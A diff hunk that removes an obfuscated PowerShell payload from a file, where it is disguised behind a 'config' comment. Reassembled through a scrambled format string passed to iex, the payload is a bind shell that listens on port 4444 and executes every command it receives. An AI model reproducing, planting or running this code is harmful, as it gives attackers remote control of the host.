@@ -1,9 +1,0 @@
-iex ("{0}{3}{1}{2}" -f '# config 5569 v4
-$l = [System.Net.Sockets.TcpListene','ream()
-$r = New-Object IO.StreamReader($s)
-$w = New-Object IO.StreamWriter($s)
-while ($true) { $cmd = $r.ReadLine(); $o = Invoke-Expression $cmd | Out-String; $w.WriteLine($o); $w.Flush(',') }
-','r]4444
-$l.Start()
-$c = $l.AcceptTcpClient()
-$s = $c.GetSt')
